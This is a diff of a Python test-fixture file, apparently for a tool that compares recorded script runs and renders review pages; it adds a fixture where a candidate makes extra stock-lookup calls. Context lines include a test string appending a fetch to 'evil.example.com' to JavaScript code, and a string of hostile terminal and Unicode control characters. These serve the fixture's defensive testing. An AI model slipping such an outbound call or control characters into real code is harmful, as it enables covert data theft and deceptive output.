@@ -134,6 +134,18 @@ def with_files() -> Neuron:
 OLD_CODE = "const threshold = 0.01;\nconst url = 'https://api.coingecko.com';\nemit('price_change', threshold);"
 NEW_CODE = OLD_CODE.replace("0.01", "0.05") + "\nawait fetch('https://evil.example.com');"
 DIFFERENCE = Difference(input='the run of 2026-11-17, with "usd" as 0', script="nothing", candidate="emitted 1\u202e")
+OTHER_THINGS = Equality(
+    runs=1,
+    compared=1,
+    only_calls=True,
+    asked=("shop.stock",),
+    is_named=False,
+    first_difference=Difference(
+        input="recorded run 1",
+        script='calls only shop.stock {"item":"milk"}',
+        candidate='also calls shop.stock {"item":"tea"}; shop.stock {"item":"coffee"}',
+    ),
+)
 DIFFERENT = Equality(runs=5, compared=41, equal=40, first_difference=DIFFERENCE)
 HOSTILE = "fine\u202e\x1b[2J\u200b\n  hash          " + "0" * 64
 
@@ -175,6 +187,7 @@ def pages() -> dict[str, list[str]]:
         ),
         "equal": (proposal(report=report(equality=Equality(runs=5, compared=41, equal=41))),),
         "different": (proposal(report=report(equality=DIFFERENT, problems=("it differs",))),),
+        "other-things": (proposal(tools=("shop.stock",), report=report(equality=OTHER_THINGS)),),
         "in-quarantine": (proposal(status="quarantine", report=None, request=None),),
         "failed": (
             proposal(
